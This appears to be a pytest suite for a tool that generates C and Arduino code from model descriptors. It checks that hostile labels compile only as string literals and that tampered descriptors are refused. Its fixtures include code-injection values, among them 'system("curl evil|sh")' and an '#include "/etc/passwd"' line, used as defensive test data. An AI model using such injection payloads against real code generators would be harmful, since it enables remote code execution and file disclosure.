"""Adversarial code generation: hostile strings stay string literals (proved by gcc/g++
compiling and running the generated code), tampered descriptors are refused before any
file is generated, and nothing outside the case changes."""

from __future__ import annotations

import json
import math
import re
import subprocess
import tempfile
from pathlib import Path

import pytest

from tests.robustness.edge_helpers import imu_descriptor_dict, install_model, snapshot
from tinystudio.cli import main
from tinystudio.deploy.flashers import write_sketch
from tinystudio.errors import DeployError
from tinystudio.ml.export import c_identifier, c_string, export_model
from tinystudio.ml.package import ModelDescriptor, ModelPackage

HOSTILE_STRINGS = [
    "plain", 'quote " inside', "back\\slash", "trailing\\", "new\nline", "cr\rtab\t", "*/ int evil; /*",
    "// comment", "??= ??/ ??' ??( ??) ??! ??< ??> ??-", "?\"?", "nul\x00after", "\x01" + "7 octal",
    "\\x41 not hex", "%s %n", "é ü 日本 🎉", "\u202e bidi", "", "\x7f\x1b[31m",
]


def _compile_and_run(tmp: Path, sources: dict[str, str], *flags: str) -> bytes:
    for name, text in sources.items():
        (tmp / name).write_text(text, encoding="utf-8")
    exe = tmp / "a.out"
    cpp = [str(tmp / n) for n in sources if n.endswith((".cpp", ".c"))]
    subprocess.run(["g++", "-std=c++11", "-trigraphs", "-Wall", "-Werror", *flags, "-I", str(tmp), *cpp,
                    "-o", str(exe)], check=True, capture_output=True, text=True)
    return subprocess.run([str(exe)], check=True, capture_output=True).stdout


def test_c_string_literals_hold_exactly_the_bytes_of_hostile_strings(tmp_path):
    lits = ",\n".join(f"  {{{c_string(s)}, sizeof({c_string(s)}) - 1}}" for s in HOSTILE_STRINGS)
    prog = ("#include <cstdio>\n#include <cstddef>\nstruct S { const char* p; size_t n; };\n"
            f"static const S strs[] = {{\n{lits}\n}};\n"
            "int main() { for (const S& s : strs) { for (size_t i = 0; i < s.n; ++i) printf(\"%02x\", "
            "(unsigned char)s.p[i]); printf(\"\\n\"); } return 0; }\n")
    for lit in map(c_string, HOSTILE_STRINGS):
        assert lit.isascii() and lit.isprintable() and "??" not in lit
    out = _compile_and_run(tmp_path, {"lits.cpp": prog}).decode().splitlines()
    assert out == [s.encode("utf-8").hex() for s in HOSTILE_STRINGS]


def test_identifiers_are_always_valid_c(tmp_path):
    for text in ["", "9lives", "_Reserved", "a b-c", "int", "x" * 300, "日本", "__", "a;b{}"]:
        ident = c_identifier(text)
        assert re.fullmatch(r"[A-Za-z][A-Za-z0-9_]{0,63}", ident), ident


LABELS = ['say "hi"', "back\\", "*/ evil(); /*", "??=define", "café", "q?", "x\u200dy"]


def test_hostile_labels_compile_as_literals_and_read_back_exactly(tmp_path):
    proj = tmp_path / "proj"
    install_model(proj, imu_descriptor_dict(LABELS))
    header = export_model(proj, "c", tmp_path / "gen" / "gesture_data.h")
    main_cpp = ('#include <cstdio>\n#include "gesture_data.h"\n'
                "int main(){ for (int i = 0; i < GESTURE_NUM_LABELS; ++i) printf(\"%s\\n\", gesture_labels[i]);"
                " return 0; }\n")
    gen = header.parent
    sources = {"main.cpp": main_cpp, "gesture_data.cpp": (gen / "gesture_data.cpp").read_text(),
               "gesture_data.h": header.read_text()}
    out = _compile_and_run(tmp_path, sources)
    assert out.decode("utf-8").splitlines() == LABELS
    assert all(lab not in header.read_text() for lab in LABELS[:4])  # no label text in comments


def test_labels_and_model_name_never_reach_the_sketch_or_properties(tmp_path):
    benign, hostile = tmp_path / "a", tmp_path / "b"
    install_model(benign / "proj", imu_descriptor_dict(["p", "q", "r", "s", "t", "u", "v"]))
    desc = imu_descriptor_dict(LABELS)
    desc["model_name"] = "name=evil\u00a0depends=Evil"
    install_model(hostile / "proj", desc)
    for root in (benign, hostile):
        export_model(root / "proj", "arduino", root / "lib")
    ino = [next((r / "lib").glob("examples/*/*.ino")).read_text() for r in (benign, hostile)]
    assert ino[0] == ino[1]  # labels and name are data only: the sketch is the same text
    props = (hostile / "lib" / "library.properties").read_text().splitlines()
    keys = [line.split("=", 1)[0] for line in props]
    assert keys == ["name", "version", "author", "maintainer", "sentence", "paragraph", "category", "url",
                    "architectures", "includes"]
    assert all(line.isascii() and line.isprintable() for line in props)


TAMPERED = {
    "ops statement": ("ops", ["FULLY_CONNECTED", 'FULLY_CONNECTED(); system("curl evil|sh"); //']),
    "ops lower case": ("ops", ["fully_connected"]),
    "model_name newline": ("model_name", 'x\n#include "/etc/passwd"'),
    "label newline": ("labels", ["a", 'b");\nint evil = 1;//']),
    "label NUL": ("labels", ["a", "b\x00c"]),
    "labels duplicate": ("labels", ["a", "a"]),
    "labels empty": ("labels", []),
    "window text": ("window", "1); evil(); ("),
    "window bool": ("window", True),
    "stride zero": ("stride", 0),
    "zero point out of int8": ("input_zero_point", 300),
    "input scale NaN": ("input_scale", math.nan),
    "output scale zero": ("output_scale", 0.0),
    "rate negative": ("rate_hz", -119.0),
    "rate infinite": ("rate_hz", math.inf),
    "gain count": ("input_gain", [1.0]),
    "gain NaN": ("input_gain", [math.nan] * 6),
    "arena huge": ("arena_bytes", 1 << 40),
    "frontend unknown": ("frontend", 'raw"; evil(); "'),
    "sensor kind": ("sensor_kind", "imu\n"),
    "missing window": ("window", None),
}


@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_tampered_descriptor_is_refused_before_anything_is_generated(tmp_path, capsys, case):
    field, value = TAMPERED[case]
    desc = imu_descriptor_dict()
    if value is None:
        del desc[field]
    else:
        desc[field] = value
    proj = tmp_path / "proj"
    install_model(proj, desc)
    before = snapshot(tmp_path)
    codes = [main(["export", str(proj), "--format", fmt, "--out", str(tmp_path / f"out-{fmt}")])
             for fmt in ("c", "arduino", "tflite")]
    assert codes == [5, 5, 5]
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 3 and all("descriptor.json" in e and repr(field) in e or "lacks window" in e for e in err)
    assert snapshot(tmp_path) == before


def test_flash_arduino_cli_refuses_a_tampered_descriptor_before_writing_a_sketch(tmp_path, capsys):
    desc = imu_descriptor_dict()
    desc["ops"] = ["SOFTMAX", "SOFTMAX();}\nvoid loop(){ Serial.println(\"pwned\"); }\nvoid x(){"]
    proj = tmp_path / "proj"
    install_model(proj, desc)
    temp = Path(tempfile.gettempdir())
    work_dirs = set(temp.glob("tinystudio-flash-*"))
    before = snapshot(tmp_path)
    rc = main(["flash", str(proj), "--tool", "arduino-cli", "--port", "/dev/null", "--fqbn",
               "arduino:mbed_nano:nano33ble", "--dry-run"])
    assert rc == 6
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "'ops'" in err[0]
    assert snapshot(tmp_path) == before
    assert set(temp.glob("tinystudio-flash-*")) == work_dirs  # no sketch written anywhere
    with pytest.raises(DeployError, match="'ops'"):  # and the library writer itself refuses
        write_sketch(ModelPackage(b"x", ModelDescriptor(**desc)), tmp_path / "w", "proj")
    assert not (tmp_path / "w").exists()


def test_valid_descriptor_round_trips_and_validates():
    d = imu_descriptor_dict()
    back = ModelDescriptor.from_dict(json.loads(json.dumps(d)), "test")
    back.validate()
    assert back.ops == ["FULLY_CONNECTED", "SOFTMAX", "RESHAPE"]


def test_generated_sketch_with_hostile_labels_compiles_against_the_tflm_stubs(tmp_path):
    """The .ino and model source as arduino-cli would compile them, against the
    declaration-only Arduino/TFLM stand-ins of tests/firmware (no TFLM library here)."""
    stubs = Path(__file__).resolve().parents[1] / "firmware" / "arduino_stubs"
    desc = imu_descriptor_dict(LABELS)
    desc["model_name"] = 'evil */ "name" \\'
    desc["ops"] = ["FULLY_CONNECTED", "SOFTMAX", "RESHAPE", "CONV_2D", "DEPTHWISE_CONV_2D"]
    install_model(tmp_path / "proj", desc)
    lib = export_model(tmp_path / "proj", "arduino", tmp_path / "lib")
    (tmp_path / "inc").mkdir()
    (tmp_path / "inc" / "TensorFlowLite.h").write_text("#pragma once\n")  # the Arduino TFLM umbrella
    (tmp_path / "inc" / "Arduino.h").write_text(  # the few Arduino calls the example sketch makes
        "#pragma once\n#include <stdint.h>\n#include <stddef.h>\nstruct SerialT { void begin(unsigned long);"
        " size_t println(const char*); };\nextern SerialT Serial;\nvoid delay(uint32_t);\n")
    ino = next(lib.glob("examples/*/*.ino"))
    for source, lang in ((ino, "c++"), (lib / "src" / "model_data.cpp", "c++")):
        proc = subprocess.run(["g++", "-std=gnu++17", "-fsyntax-only", "-trigraphs", "-Wall", "-Werror", "-x", lang,
                               "-include", "Arduino.h", f"-I{tmp_path / 'inc'}", f"-I{stubs}", f"-I{lib / 'src'}",
                               str(source)], capture_output=True, text=True, timeout=120)
        assert proc.returncode == 0, proc.stderr
    assert "resolver.AddDepthwiseConv2D();" in ino.read_text()


@pytest.mark.parametrize("fmt", ["c", "arduino"])
def test_more_labels_than_the_model_has_outputs_is_refused_before_any_code(tmp_path, capsys, fmt):
    """200 labels for a 2-output model: the sketch would index the output tensor past its end."""
    from tests.robustness.edge_helpers import model_with_outputs

    proj = tmp_path / "proj"
    install_model(proj, imu_descriptor_dict([f"c{i}" for i in range(200)]), tflite=model_with_outputs(2))
    before = snapshot(tmp_path)
    assert main(["export", str(proj), "--format", fmt, "--out", str(tmp_path / "out")]) == 5
    err = capsys.readouterr().err.strip()
    assert "200 labels" in err and "2 outputs" in err and "Traceback" not in err, err
    assert snapshot(tmp_path) == before


def test_the_sketch_never_reads_past_the_output_tensor(tmp_path):
    install_model(tmp_path / "proj", imu_descriptor_dict())
    ino = next(export_model(tmp_path / "proj", "arduino", tmp_path / "lib").glob("examples/*/*.ino")).read_text()
    loop = ino[ino.index("void loop()"):]
    assert "out->bytes < MODEL_NUM_LABELS ? (int)out->bytes : MODEL_NUM_LABELS" in loop
    assert "for (int i = 1; i < n; ++i)" in loop


def test_an_arena_no_board_has_is_refused_before_any_code(tmp_path, capsys):
    """Below the descriptor's own limit (2 GB) but far above any board: a sketch that cannot link."""
    desc = imu_descriptor_dict()
    desc["arena_bytes"] = 512 * 1024 * 1024
    install_model(tmp_path / "proj", desc)
    assert main(["export", str(tmp_path / "proj"), "--format", "arduino", "--out", str(tmp_path / "out")]) == 5
    err = capsys.readouterr().err
    assert "arena_bytes 536870912" in err and not (tmp_path / "out").exists()
